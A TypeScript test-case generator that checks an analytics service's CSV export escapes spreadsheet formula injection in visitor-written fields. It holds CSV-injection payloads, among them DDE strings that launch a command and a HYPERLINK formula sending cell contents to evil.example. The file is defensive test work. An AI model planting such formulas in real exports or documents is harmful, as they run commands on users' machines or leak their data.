import { body, collector, ev, storedOne } from './build.ts';
import type { CorpusCase } from './types.ts';

/** Text a spreadsheet would run as a formula, each starting with one of the trigger characters. */
const FORMULAS: [string, string][] = [
  ['equals cmd', "=cmd|' /C calc'!A0"],
  ['hyperlink', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
  ['plus', "+SUM(1+1)*cmd|' /C calc'!A0"],
  ['minus', "-2+3+cmd|' /C calc'!A0"],
  ['at', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
  ['fullwidth equals', '\uFF1D1+1'],
  ['fullwidth plus', '\uFF0B1+1'],
  ['fullwidth minus', '\uFF0D1+1'],
  ['fullwidth at', '\uFF20SUM(1)'],
];

const same = (s: string) => s;

/**
 * Each field a visitor writes and the CSV export carries as a plain text cell, with the text as
 * stored (click text has its ASCII layout whitespace trimmed).
 */
const FIELDS: [string, (s: string) => Record<string, unknown>, string, (s: string) => string][] = [
  ['title', (s) => ({ title: s }), 'title', same],
  ['click text', (s) => ({ type: 'click', el: { tag: 'button', text: s } }), 'el_text', (s) => s.trim()],
  ['custom name', (s) => ({ type: 'custom', name: s }), 'name', same],
  ['utm campaign', (s) => ({ utm: { campaign: s } }), 'utm_campaign', same],
  ['user id', (s) => ({ user_id: s }), 'user_id', same],
];

/**
 * Spreadsheet formula injection: stored byte for byte (the API and NDJSON give the text back as
 * sent), but a CSV export cell must start with `'` so a spreadsheet shows it instead of running it.
 */
export function formulaCases(): CorpusCase[] {
  const { out, add } = collector('formula_cell', 'formula');
  FORMULAS.forEach(([name, s], i) => {
    for (const [field, make, column, stored] of FIELDS) {
      const id = `fx${i}-${column}`;
      add(`${field}/${name}`, {
        body: body([ev(id, make(s))]),
        expect: {
          ...storedOne([{ event_id: id, column, value: stored(s) }]),
          export_csv: [{ event_id: id, column, value: `'${stored(s)}` }],
        },
      });
    }
  });
  // Text that only looks close stays as it is.
  add('title/plain text', {
    body: body([ev('fx-plain', { title: 'Sale = 20% off' })]),
    expect: {
      ...storedOne([{ event_id: 'fx-plain', column: 'title', value: 'Sale = 20% off' }]),
      export_csv: [{ event_id: 'fx-plain', column: 'title', value: 'Sale = 20% off' }],
    },
  });
  return out;
}
